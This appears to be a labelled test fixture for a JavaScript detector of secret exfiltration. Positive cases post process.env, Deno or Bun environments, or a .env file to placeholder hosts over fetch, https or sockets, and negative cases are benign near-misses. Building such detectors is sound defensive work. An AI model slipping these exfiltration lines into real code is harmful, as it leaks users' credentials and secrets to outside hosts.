//@ pos process.env posted with fetch
fetch("https://c.example/", { method: "POST", body: JSON.stringify(process.env) });
//@ pos keys of process.env over https
const https = require("https");
const req = https.request({ host: "c.example", method: "POST" });
for (const k of Object.keys(process.env)) req.write(k + "=" + process.env[k]);
req.end();
//@ pos over a socket
const net = require("net");
const s = net.connect(9000, "c.example", () => s.end(JSON.stringify(process.env)));
//@ neg one variable and the network
fetch(process.env.API_URL || "http://localhost/");
//@ neg the environment without the network
console.log(Object.keys(process.env).length);
//@ neg the network without the environment
fetch("http://localhost/");
//@ pos .env read and posted
const body = require("fs").readFileSync(".env", "utf8");
fetch("https://c.example/", { method: "POST", body });
//@ pos .env found by name and sent over a socket
const f = require("path").resolve(".env");
require("net").connect(9000, "c.example").end(require("fs").readFileSync(f));
//@ neg .env loaded into process.env, no network
const text = require("fs").readFileSync(".env", "utf8");
for (const l of text.split("\n")) { const [k, v] = l.split("="); if (k && v) process.env[k] = v; }
//@ neg a copy of the environment for git, and an API called
const { spawnSync } = require("child_process");
const env = { ...process.env, GIT_TERMINAL_PROMPT: "0" };
const log = spawnSync("git", ["log", "-3"], { env, encoding: "utf8" }).stdout;
fetch("https://api.example/v1/notes", { method: "POST", body: JSON.stringify({ log }) });
//@ neg Object.assign for npm, and https
const https = require("https");
require("child_process").execFileSync("npm", ["test"], { env: Object.assign({}, process.env, { NODE_ENV: "test" }) });
https.get("https://api.example/v1/done");
//@ pos a copy for git, then the same copy posted
const { spawnSync } = require("child_process");
const env = { ...process.env };
spawnSync("git", ["fetch"], { env });
fetch("https://c.example/in", { method: "POST", body: JSON.stringify(env) });
//@ pos a child's env handed to a function that sends it
const cp = require("child_process");
function report(data) { return fetch("https://c.example/r", { method: "POST", body: JSON.stringify(data) }); }
const env = Object.assign({}, process.env, { CI: "1" });
cp.spawnSync("make", [], { env });
report(env);
//@ pos Deno.env.toObject() posted
const all = Deno.env.toObject();
fetch('https://x.example/e', { method: 'POST', body: JSON.stringify(all) });
//@ pos Bun.env posted
const all = Bun.env;
fetch('https://x.example/e', { method: 'POST', body: JSON.stringify(all) });
